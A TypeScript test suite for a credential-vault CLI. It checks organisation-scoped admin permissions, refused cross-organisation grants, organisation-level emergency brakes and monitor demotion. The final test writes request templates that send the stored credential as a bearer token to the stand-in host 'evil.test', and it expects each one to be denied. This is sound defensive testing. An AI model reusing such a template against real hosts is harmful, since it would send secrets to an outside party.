/**
 * Organisations (issue #19, SPEC §15): an org-scoped admin sees and changes only its own
 * organisation's credentials, agents and publishers; an agent may be granted and may use only its
 * organisation's credentials; a brake can cover an organisation. Real CLI, real listeners.
 */
import { afterEach, describe, expect, it } from 'vitest';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { addAdmin, addCredential, newAgent, newHome, type TestHome } from '../helpers/cli.ts';
import { awayFromHourEnd } from '../helpers/history.ts';
import { ALLOWED_HOST, bearer, type Canary, newCanary, setupCanary } from '../helpers/canary.ts';

function snapshot(t: TestHome): { vault: string; audit: string } {
  return {
    vault: fs.readFileSync(path.join(t.home, 'vault.json'), 'utf8'),
    audit: fs.readFileSync(path.join(t.home, 'audit', 'audit.log'), 'utf8'),
  };
}

async function register(
  t: TestHome,
  name: string,
  pw: string,
  org?: string,
): Promise<{ id: string; token: string }> {
  const r = await t.tp([
    '--json',
    'agent',
    'register',
    name,
    '--tier',
    'COMPANION',
    ...(org === undefined ? [] : ['--org', org]),
    '--password-file',
    pw,
  ]);
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  return JSON.parse(r.stdout) as { id: string; token: string };
}

describe('organisations: an org admin sees and changes only its own objects', () => {
  it("lists, shows and changes are confined to the admin's organisation (exit 3)", async () => {
    const t = await newHome({ fresh: true });
    const bob = await addAdmin(t, 'bob', 'admin', { org: 'acme' });
    // Owners are instance-wide.
    const owner2 = await t.tp([
      'admin',
      'add',
      'olive',
      '--role',
      'owner',
      '--org',
      'acme',
      '--new-password-file',
      bob,
      '--password-file',
      t.passwordFile,
    ]);
    expect(owner2.code).toBe(2);
    const list = JSON.parse((await t.tp(['--json', 'admin', 'list'])).stdout);
    expect(list.admins.find((a: { name: string }) => a.name === 'bob').org).toBe('acme');

    expect(
      (await addCredential(t, 'shared', 'tp-org-shared', ['--allowed-domains', 'a.test']))
        .code,
    ).toBe(0);
    expect(
      (await addCredential(t, 'globex-k', 'tp-org-globex', [
        '--allowed-domains',
        'a.test',
        '--org',
        'globex',
      ])).code,
    ).toBe(0);
    const gbot = await register(t, 'gbot', t.passwordFile, 'globex');

    // bob's objects get his organisation without asking.
    const mine = await t.tp([
      'credential',
      'add',
      'acme-k',
      '--allowed-domains',
      'a.test',
      '--password-file',
      bob,
    ], { input: 'tp-org-acme' });
    expect(mine.stderr).toBe('');
    expect(mine.code).toBe(0);
    const abot = await register(t, 'abot', bob);
    const shown = await t.tp(['--json', '--admin', 'bob', 'credential', 'show', 'acme-k']);
    expect(shown.code).toBe(0);
    expect(JSON.parse(shown.stdout).org).toBe('acme');
    expect(JSON.parse((await t.tp(['--json', 'agent', 'show', abot.id])).stdout).org).toBe(
      'acme',
    );

    // Lists show bob only his organisation's objects; the owner sees everything.
    const creds = await t.tp(['--quiet', '--admin', 'bob', 'credential', 'list']);
    expect(creds.stdout).toBe('acme-k\n');
    const agents = await t.tp(['--quiet', 'agent', 'list'], {
      env: { TRUST_PROTOCOL_ADMIN: 'bob' },
    });
    expect(agents.stdout).toBe(`${abot.id}\n`);
    expect((await t.tp(['--quiet', 'credential', 'list'])).stdout.split('\n').length).toBe(4);

    // Another organisation's (or an instance-wide) object: not shown, not changed.
    for (
      const args of [
        ['--admin', 'bob', 'credential', 'show', 'globex-k'],
        ['--admin', 'bob', 'agent', 'show', gbot.id],
      ]
    ) {
      const r = await t.tp(args);
      expect(r.code).toBe(3);
      expect(r.stderr).toMatch(/organisation acme/);
      expect(r.stderr).toMatch(/hint: /);
    }
    const before = snapshot(t);
    for (
      const args of [
        ['credential', 'remove', 'globex-k'],
        ['credential', 'update', 'shared', '--min-tier', 'PARTNER'],
        ['agent', 'suspend', gbot.id],
        ['agent', 'register', 'sneaky', '--org', 'globex'],
        ['monitor', 'actions', 'denial_burst', 'record'],
      ]
    ) {
      const r = await t.tp([...args, '--password-file', bob]);
      expect({ args, code: r.code }).toEqual({ args, code: 3 });
      expect(r.stderr).toMatch(/organisation acme/);
    }
    // A grant across organisations is a policy refusal, as a too-low tier is (exit 4).
    for (const cred of ['globex-k', 'shared']) {
      const r = await t.tp(['agent', 'grant', abot.id, cred, '--password-file', bob]);
      expect(r.code).toBe(4);
      expect(r.stderr).toMatch(/organisation/);
    }
    expect(snapshot(t)).toEqual(before);

    // Within its organisation bob works as an admin does; his entries name him and the org.
    const g = await t.tp(['agent', 'grant', abot.id, 'acme-k', '--password-file', bob]);
    expect(g.stderr).toBe('');
    expect(g.code).toBe(0);
    const entries = (await t.tp(['--json', 'audit', 'show'])).stdout.trim().split('\n').map((l) =>
      JSON.parse(l) as { event: string; actor: { id?: string }; data: Record<string, unknown> }
    );
    const add = entries.find((e) => e.event === 'credential.add' && e.data.credential === 'acme-k');
    expect(add?.actor.id).toBe('bob');
    expect(add?.data.org).toBe('acme');
    expect(entries.find((e) => e.event === 'agent.grant')?.data.org).toBe('acme');
  }, 180_000); // some 25 CLI runs: room for a loaded machine, no timing asserted

  it('an instance-wide admin cannot grant a credential across organisations', async () => {
    const t = await newHome({ fresh: true });
    expect(
      (await addCredential(t, 'bk', 'tp-org-b', ['--allowed-domains', 'a.test', '--org', 'b']))
        .code,
    ).toBe(0);
    expect((await addCredential(t, 'wide', 'tp-org-w', ['--allowed-domains', 'a.test'])).code)
      .toBe(0);
    const a = await register(t, 'abot', t.passwordFile, 'a');
    const before = snapshot(t);
    for (const cred of ['bk', 'wide']) {
      const r = await t.tp(['agent', 'grant', a.id, cred, '--password-file', t.passwordFile]);
      expect(r.code).toBe(4);
      expect(r.stderr).toMatch(/organisation/);
    }
    expect(snapshot(t)).toEqual(before);
  });
});

describe('organisations on the wire', () => {
  let f: Canary | undefined;
  afterEach(async () => {
    await f?.close();
    f = undefined;
  });

  it('an agent of org a cannot use a credential of org b: nothing is sent', async () => {
    f = await setupCanary();
    const other = newCanary();
    f.canaries.push(other);
    const t = f.t;
    expect(
      (await addCredential(t, 'kb', other, ['--allowed-domains', ALLOWED_HOST, '--org', 'b']))
        .code,
    ).toBe(0);
    const a = await register(t, 'abot', t.passwordFile, 'a');
    const g = await t.tp(['agent', 'grant', a.id, 'kb', '--password-file', t.passwordFile]);
    expect(g.code).toBe(4);
    const m = f.marker();
    const r = await f.exec({ ...bearer(`https://${ALLOWED_HOST}/x`, m), credential: 'kb' }, {
      token: a.token,
    });
    expect(r.code).toBe(4);
    expect(f.receivedBy(m)).toEqual([]);
    f.expectClean(r);
  });

  it("an org brake stops that organisation's agents and credentials, not others", async () => {
    f = await setupCanary();
    const acme = newCanary();
    f.canaries.push(acme);
    const t = f.t;
    expect(
      (await addCredential(t, 'ka', acme, ['--allowed-domains', ALLOWED_HOST, '--org', 'acme']))
        .code,
    ).toBe(0);
    const a = await register(t, 'abot', t.passwordFile, 'acme');
    expect(
      (await t.tp(['agent', 'grant', a.id, 'ka', '--password-file', t.passwordFile])).code,
    ).toBe(0);
    const url = `https://${ALLOWED_HOST}/x`;
    const first = f.marker();
    const ok = await f.exec({ ...bearer(url, first), credential: 'ka' }, { token: a.token });
    expect(ok.stderr).toBe('');
    expect(f.receivedBy(first)).toEqual(['allowed']);

    const brake = await t.tp([
      'emergency',
      'activate',
      '--scope',
      'org',
      '--org',
      'acme',
      '--reason',
      'acme incident',
    ]);
    expect(brake.stderr).toBe('');
    expect(brake.code).toBe(0);
    const stopped = f.marker();
    const r = await f.exec({ ...bearer(url, stopped), credential: 'ka' }, { token: a.token });
    expect(r.code).toBe(5);
    expect(r.stderr).toMatch(/organisation acme/);
    expect(f.receivedBy(stopped)).toEqual([]);
    // The instance-wide agent and credential go on.
    const other = f.marker();
    const o = await f.exec(bearer(url, other));
    expect(o.stderr).toBe('');
    expect(f.receivedBy(other)).toEqual(['allowed']);
    const status = JSON.parse((await t.tp(['--json', 'emergency', 'status'])).stdout);
    expect(status.orgs.map((b: { org: string }) => b.org)).toEqual(['acme']);

    // An operator of acme lifts acme's brake, and no brake of anything else.
    const ops = await addAdmin(t, 'ops', 'operator', { org: 'acme' });
    const kBrake = await t.tp([
      'emergency',
      'activate',
      '--scope',
      'credential',
      '--credential-name',
      'k',
      '--reason',
      'shared key incident',
    ]);
    expect(kBrake.code).toBe(0);
    const before = fs.readFileSync(path.join(t.home, 'vault.json'), 'utf8');
    const notHers = await t.tp([
      'emergency',
      'clear',
      '--scope',
      'credential',
      '--credential-name',
      'k',
      '--password-file',
      ops,
    ]);
    expect(notHers.code).toBe(3);
    expect(notHers.stderr).toMatch(/organisation acme/);
    expect(fs.readFileSync(path.join(t.home, 'vault.json'), 'utf8')).toBe(before);
    const cleared = await t.tp([
      'emergency',
      'clear',
      '--scope',
      'org',
      '--org',
      'acme',
      '--password-file',
      ops,
    ]);
    expect(cleared.stderr).toBe('');
    expect(cleared.code).toBe(0);
    const again = f.marker();
    await f.exec({ ...bearer(url, again), credential: 'ka' }, { token: a.token });
    expect(f.receivedBy(again)).toEqual(['allowed']);
    f.expectClean(r);
  }, 180_000); // some 15 CLI runs: room for a loaded machine, no timing asserted
});

describe('organisations and the monitor (#19 review)', () => {
  it("the monitor's demote still narrows when an org admin's password unsealed", async () => {
    // exec (and serve) unseal with whichever admin's password they are given; the monitor then
    // acts with those keys. Its demote only narrows: an org-scoped admin must not stop it.
    await awayFromHourEnd(90_000);
    const t = await newHome({ fresh: true });
    expect(
      (await addCredential(t, 'k', 'sk-monitor-value', ['--allowed-domains', ALLOWED_HOST]))
        .code,
    ).toBe(0);
    const redPw = await addAdmin(t, 'redops', 'operator', { org: 'red' });
    const set = await t.tp([
      'monitor',
      'actions',
      'denial_burst',
      'demote',
      '--password-file',
      t.passwordFile,
    ]);
    expect(set.code, set.stderr).toBe(0);
    const a = await newAgent(t, { name: 'p', tier: 'PARTNER', grants: ['k'] });
    for (let i = 0; i < 5; i++) {
      const tpl = t.file(
        `probe-${i}.json`,
        JSON.stringify({
          credential: 'k',
          url: `https://evil.test/${i}`,
          headers: { Authorization: 'Bearer {{CREDENTIAL}}' },
        }),
      );
      const r = await t.tp(
        ['exec', '--template', tpl, '--admin', 'redops', '--password-file', redPw],
        { env: { TRUST_PROTOCOL_TOKEN: a.token } },
      );
      expect(r.code, r.stderr).toBe(4);
    }
    const shown = JSON.parse((await t.tp(['--json', 'agent', 'show', a.id])).stdout);
    expect(shown.tier).toBe('COMPANION');
  }, 220_000);
});
